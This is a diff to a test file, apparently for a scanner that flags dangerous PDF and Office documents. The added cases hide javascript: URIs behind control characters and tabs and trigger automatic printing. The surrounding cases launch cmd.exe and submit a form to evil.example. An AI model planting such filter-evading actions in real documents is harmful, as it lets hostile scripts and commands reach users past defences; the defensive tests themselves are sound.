@@ -115,6 +115,10 @@ describe('a PDF', () => {
 		'a script in a note': { page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${script} >>]` },
 		'a script by an indirect name': { catalog: '/OpenAction << /S 10 0 R /JS (1) >>', objects: { 10: '/JavaScript' } },
 		'a web address that is a script': { catalog: '/OpenAction << /S /URI /URI (javascript:alert\\(1\\)) >>' },
+		'a script behind a control character': { catalog: '/OpenAction << /S /URI /URI (\\001javascript:alert\\(1\\)) >>' },
+		'a script cut by a tab': { catalog: '/OpenAction << /S /URI /URI (java\\tscript:alert\\(1\\)) >>' },
+		'a script as the base of all addresses': { catalog: '/URI << /Base (java\\nscript:) >>' },
+		'an order to print': { catalog: '/OpenAction << /S /Named /N /Print >>' },
 		'a program to start': { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' },
 		'a form to send': { catalog: '/OpenAction << /S /SubmitForm /F (http://evil.example) >>' },
 		'an embedded file': {
@@ -257,6 +261,7 @@ describe('a Word, Excel or OpenDocument file', () => {
 		['a picture from the web', docxWith({ relations: relation('image', 'http://evil.example/a.png') })],
 		['a frame', docxWith({ relations: relation('frame', 'http://evil.example/') })],
 		['a script behind a link', docxWith({ relations: relation('hyperlink', 'javascript:alert(1)') })],
+		['a script behind a link, cut by a tab', docxWith({ relations: relation('hyperlink', '&#1;java&#9;script:alert(1)') })],
 		['a mode in single quotes', docxWith({ relations: relation('oleObject', 'http://a').replaceAll('"', "'") })],
 		['an escaped mode', docxWith({ relations: relation('oleObject', 'http://a', '&#69;xternal') })],
 		[
